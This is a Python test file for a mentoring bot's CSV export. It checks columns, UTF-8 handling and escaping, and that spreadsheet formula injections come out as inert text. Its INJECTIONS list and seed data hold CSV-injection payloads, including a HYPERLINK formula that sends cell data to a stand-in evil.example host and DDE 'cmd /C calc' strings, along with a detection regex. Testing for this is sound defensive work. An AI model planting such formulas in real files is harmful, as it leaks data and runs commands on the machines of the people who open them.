"""CSV exports: columns, escaping (commas, quotes, newlines, formulas) and non-ASCII names."""

from __future__ import annotations

import csv
import io
import re

from bot.services.export import (
    BOM,
    REVIEW_COLUMNS,
    SESSION_COLUMNS,
    export_period,
)
from store.db import SessionFactory
from store.models import Review
from tests.seed import DAY, HOUR, add_attendance, add_mentor, add_session, add_user
from tests.seed import PERIOD_END as NOW
from tests.seed import PERIOD_START as START

TRICKY_COMMENT = 'Great, "really" great,\nthough the room was loud'


def rows(text: str) -> list[dict[str, str]]:
    assert text.startswith(BOM), "spreadsheets need the BOM to read UTF-8"
    return list(csv.DictReader(io.StringIO(text.removeprefix(BOM), newline="")))


def seed(sessions: SessionFactory) -> dict[str, int]:
    """Zoë (mentor) met Łukasz; a request to her is pending; one session is outside the period."""
    with sessions.begin() as session:
        zoe = add_mentor(
            session, "U0ZOE", tz="Europe/Oslo", name="Zoë Ångström, PhD", capacity=3, at=START
        ).id
        lukasz = add_user(session, "U0LUKASZ", name='Łukasz "Luke" Żółć').id
        mallory = add_user(session, "U0MAL", name='=HYPERLINK("http://evil")').id
        held = add_session(
            session,
            zoe,
            lukasz,
            START + DAY,
            "approved",
            requested_at=START,
            decided_at=START + HOUR,
        ).id
        add_attendance(session, held, lukasz, True)
        add_session(session, zoe, mallory, NOW + DAY, "pending", requested_at=NOW)
        add_session(
            session, zoe, lukasz, START - 20 * DAY, "approved",
            requested_at=START - 30 * DAY, decided_at=START - 30 * DAY,
        )  # fmt: skip
        session.add(
            Review(
                booking_id=held,
                reviewer_id=lukasz,
                connection_stars=2,
                connection_comment=TRICKY_COMMENT,
                program_stars=4,
                program_comment="-5 points for the wifi",
                feedback="@channel loved it",
                action_items="Private: practise the opening.",
                created_at=START + DAY + 2 * HOUR,
            )
        )
    return {"held": held}


def test_sessions_csv_has_every_column_and_only_the_period(sessions: SessionFactory) -> None:
    ids = seed(sessions)
    with sessions.begin() as session:
        export = export_period(session, start=START, end=NOW + 2 * DAY)
    table = rows(export.sessions_csv)
    assert list(table[0]) == list(SESSION_COLUMNS)
    assert export.sessions == len(table) == 2
    held = table[0]
    assert held["booking_id"] == str(ids["held"])
    assert held["mentor_name"] == "Zoë Ångström, PhD"
    assert held["mentee_name"] == 'Łukasz "Luke" Żółć'
    assert held["status"] == "approved"
    assert held["starts_at_utc"] == (START + DAY).strftime("%Y-%m-%d %H:%M")
    assert (held["mentee_says_it_took_place"], held["mentor_says_it_took_place"]) == ("yes", "")
    pending = table[1]
    assert pending["status"] == "pending" and pending["decided_at_utc"] == ""
    # A name that a spreadsheet would run as a formula is defused.
    assert pending["mentee_name"] == '\'=HYPERLINK("http://evil")'
    # Booking messages stay between the two participants.
    assert "conference talk" not in export.sessions_csv


def test_reviews_csv_escapes_commas_quotes_newlines_and_formulas(sessions: SessionFactory) -> None:
    ids = seed(sessions)
    with sessions.begin() as session:
        export = export_period(session, start=START, end=NOW)
    (review,) = rows(export.reviews_csv)
    assert list(review) == list(REVIEW_COLUMNS)
    assert review["booking_id"] == str(ids["held"])
    assert review["reviewer_role"] == "mentee"
    assert review["reviewer_name"] == 'Łukasz "Luke" Żółć'
    assert review["connection_stars"] == "2"
    assert review["connection_comment"] == TRICKY_COMMENT
    assert review["program_comment"] == "'-5 points for the wifi"
    assert review["feedback"] == "'@channel loved it"
    assert "Private: practise" not in export.reviews_csv
    # The raw text quotes the cell with the comma, doubles quotes, and keeps the newline inside.
    assert '"Great, ""really"" great,\nthough the room was loud"' in export.reviews_csv


def test_an_empty_period_has_headers_only(sessions: SessionFactory) -> None:
    seed(sessions)
    with sessions.begin() as session:
        export = export_period(session, start=NOW + 10 * DAY, end=NOW + 11 * DAY)
    assert (export.sessions, export.reviews) == (0, 0)
    assert rows(export.sessions_csv) == [] and rows(export.reviews_csv) == []
    assert export.sessions_csv.removeprefix(BOM).startswith(",".join(SESSION_COLUMNS))


# A spreadsheet's formula injections, as OWASP's CSV-injection page describes them: at the
# start of a cell, and after a separator, a quote or a line break that a lenient import (or a
# locale that splits on `;` or tabs) may take as the start of a new cell.
INJECTIONS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "+cmd|' /C notepad'!A0",
    "\t=1+1",
    "\r=1+1",
    "fine;=cmd|' /C calc'!A0",
    "a,=1+1",
    "a\tb\t@SUM(1)",
    'all good\n=HYPERLINK("http://evil.example")',
    'quoted "=1+1" inside',
    "ok; -1",
)
HARMLESS = ("Jean-Luc was great, thanks", "a; b", "2026-11-23", "C++ (and -O2)")
# A cell is where a spreadsheet may see a formula: its start, or after a separator or break.
FORMULA_AT = re.compile(r"(?:^|[,;\t\r\n\"']) *[=+\-@\t\r]")
QUOTED_ROW = r'"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*\r\n'


def test_formula_injections_anywhere_in_a_cell_are_inert(sessions: SessionFactory) -> None:
    """Mallory writes spreadsheet formulas into every text of her reviews (and her name): each
    comes back from the CSV as text a spreadsheet will not run, with what she typed kept, and
    every data cell is quoted so that no separator inside it can start a new cell."""
    texts = INJECTIONS + HARMLESS
    with sessions.begin() as session:
        zoe = add_mentor(session, "U0ZOE", tz="Europe/Oslo", name="Zoë", capacity=20, at=START).id
        mallory = add_user(session, "U0MAL", name="@SUM(1+1)*cmd|' /C calc'!A0").id
        for number, comment in enumerate(texts):
            booking = add_session(
                session, zoe, mallory, START + number * HOUR, "approved",
                requested_at=START, decided_at=START,
            ).id  # fmt: skip
            session.add(
                Review(
                    booking_id=booking, reviewer_id=mallory, connection_stars=2,
                    connection_comment=comment, program_stars=3, program_comment=comment,
                    feedback=comment, created_at=START + DAY + number * HOUR,
                )
            )  # fmt: skip
    with sessions.begin() as session:
        export = export_period(session, start=START, end=NOW)

    table = rows(export.reviews_csv)
    assert len(table) == len(texts)
    for row, typed in zip(table, texts, strict=True):
        for column in ("connection_comment", "program_comment", "feedback"):
            cell = row[column]
            if typed in HARMLESS:
                assert cell == typed
            else:
                assert cell == "'" + typed, (column, cell)
        assert row["reviewer_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    for cell in (cell for row in table for cell in row.values()):
        assert cell.startswith("'") or not FORMULA_AT.search(cell), cell
    body = export.reviews_csv.removeprefix(BOM).split("\r\n", 1)[1]
    assert re.fullmatch(f"(?:{QUOTED_ROW})*", body), "every data cell is quoted"
